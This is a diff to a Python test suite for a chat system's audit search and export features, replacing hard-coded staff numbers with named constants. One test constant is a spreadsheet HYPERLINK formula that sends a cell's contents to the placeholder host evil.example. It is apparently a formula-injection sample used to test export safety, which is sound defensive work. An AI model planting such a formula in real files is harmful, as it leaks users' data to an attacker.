@@ -34,8 +34,9 @@ from tests.support import (
     run_tsunagu,
     sql,
 )
+from tests.support.people import SUZUKI, TANAKA, YAMADA, YOSHIDA
 
-AUDITOR, ADMIN, STAFF = "1011", "1012", "1002"
+AUDITOR, ADMIN, STAFF = YOSHIDA, YAMADA, SUZUKI
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"詳細")'
 
 
@@ -53,7 +54,7 @@ class History:
 
 
 async def post_history(server: RunningServer) -> History:
-    tanaka = await ChatClient.connect(server, await dev_token(server, "1004"))
+    tanaka = await ChatClient.connect(server, await dev_token(server, TANAKA))
     suzuki = await ChatClient.connect(server, await dev_token(server, STAFF))
     assert tanaka.ready is not None and suzuki.ready is not None
     bousai = next(c["id"] for c in tanaka.ready["channels"] if c["name"] == "防災係")
@@ -136,7 +137,7 @@ async def test_edited_and_deleted_text_is_found_with_every_revision(server: Runn
         assert [(r["revision"], r["action"]) for r in edited["revisions"]] == [
             (1, "create"), (2, "edit")]
         assert texts(edited) == ["防災無線の点検は12月1日です", "点検は延期します"]
-        assert edited["sender"]["staff_number"] == "1004"
+        assert edited["sender"]["staff_number"] == TANAKA
         assert edited["channel"] == {"id": story.bousai_channel, "name": "防災係",
                                      "kind": "department"}
         # Deleted text is found too, with the delete as the last revision.
@@ -161,13 +162,13 @@ async def test_filters_by_user_channel_and_date_range(server: RunningServer) -> 
         assert {story.edited, story.deleted, story.formula, story.percent,
                 story.plain} <= set(everything)
         assert everything == sorted(everything, reverse=True)  # newest first
-        by_tanaka = await search(auditor, user="1004", limit=200)
+        by_tanaka = await search(auditor, user=TANAKA, limit=200)
         assert {story.edited, story.deleted, story.plain} <= set(ids(by_tanaka))
         assert not {story.formula, story.percent} & set(ids(by_tanaka))
-        assert all(m["sender"]["staff_number"] == "1004" for m in by_tanaka["messages"])
+        assert all(m["sender"]["staff_number"] == TANAKA for m in by_tanaka["messages"])
         in_shomu = await search(auditor, channel_id=story.shomu_channel, limit=200)
         assert set(ids(in_shomu)) == {story.formula, story.percent}
-        combined = await search(auditor, user="1004", channel_id=story.shomu_channel)
+        combined = await search(auditor, user=TANAKA, channel_id=story.shomu_channel)
         assert ids(combined) == []
         today = datetime.now(JST).date()
         yesterday, tomorrow = today - timedelta(days=1), today + timedelta(days=1)
@@ -179,10 +180,10 @@ async def test_filters_by_user_channel_and_date_range(server: RunningServer) -> 
         # RFC 3339 bounds: [from, to).
         moment = datetime.fromisoformat(
             next(m for m in by_tanaka["messages"] if m["id"] == story.plain)["created_at"])
-        after = await search(auditor, user="1004",
+        after = await search(auditor, user=TANAKA,
                              **{"from": moment.isoformat()})
         assert ids(after) == [story.plain]
-        before = await search(auditor, user="1004", to=moment.isoformat())
+        before = await search(auditor, user=TANAKA, to=moment.isoformat())
         assert story.plain not in ids(before) and story.edited in ids(before)
         # Bad input is a clear 400 or 404.
         unknown = await get_json(auditor, "/api/audit/messages?user=9999", 404)
@@ -224,7 +225,7 @@ async def test_purged_messages_are_listed_without_content(server: RunningServer)
         purged = next(m for m in listed["messages"] if m["id"] == story.plain)
         assert purged["state"] == "purged" and purged["purged_at"]
         assert purged["revisions"] == []
-        assert purged["sender"]["staff_number"] == "1004"
+        assert purged["sender"]["staff_number"] == TANAKA
         # Its former text finds nothing any more.
         assert ids(await search(auditor, q="了解しました")) == []
         viewed = await get_json(auditor, f"/api/audit/messages/{story.plain}")
@@ -252,7 +253,7 @@ async def test_every_search_is_audited_with_ids_and_never_text(server: RunningSe
     story = await post_history(server)
     async with await signed_in(server, AUDITOR) as auditor:
         me = await get_json(auditor, "/api/me")
-        result = await search(auditor, q="金庫", user="1004")
+        result = await search(auditor, q="金庫", user=TANAKA)
     entry = next(e for e in await records_audit(server)
                  if e["action"] == "records.searched")
     assert entry["outcome"] == "ok"
@@ -263,7 +264,7 @@ async def test_every_search_is_audited_with_ids_and_never_text(server: RunningSe
     assert entry["remote"] == "127.0.0.1"
     assert entry["detail"]["message_ids"] == ids(result) == [story.deleted]
     assert entry["detail"]["count"] == 1
-    assert entry["detail"]["words"] == ["金庫"] and entry["detail"]["user"] == "1004"
+    assert entry["detail"]["words"] == ["金庫"] and entry["detail"]["user"] == TANAKA
     assert "避難所" not in entry["raw"]  # the words searched for, never message text
 
 
@@ -347,7 +348,7 @@ def check_files(files: dict[str, bytes], story: History) -> None:
     assert [(r["revision"], r["action"], r["state"]) for r in deleted] == [
         ("1", "create", "deleted"), ("2", "delete", "deleted")]
     first = deleted[0]
-    assert first["sender_staff_number"] == "1004" and first["channel_name"] == "防災係"
+    assert first["sender_staff_number"] == TANAKA and first["channel_name"] == "防災係"
     at_utc = datetime.fromisoformat(first["at_utc"])
     at_jst = datetime.fromisoformat(first["at_jst"])
     assert first["at_jst"].endswith("+09:00") and first["at_utc"].endswith("Z")
@@ -427,7 +428,7 @@ async def test_downloads_serve_only_the_export_own_files(server: RunningServer) 
 async def test_the_cli_searches_and_exports_on_the_record(server: RunningServer,
                                                           tmp_path: Path) -> None:
     story = await post_history(server)
-    found = await run_tsunagu(server, "audit", "search", "--q", "防災", "--user", "1004")
+    found = await run_tsunagu(server, "audit", "search", "--q", "防災", "--user", TANAKA)
     assert found.returncode == 0, found.stderr
     assert str(story.edited) in found.stdout and "edited" in found.stdout
     assert "1 message(s)" in found.stdout
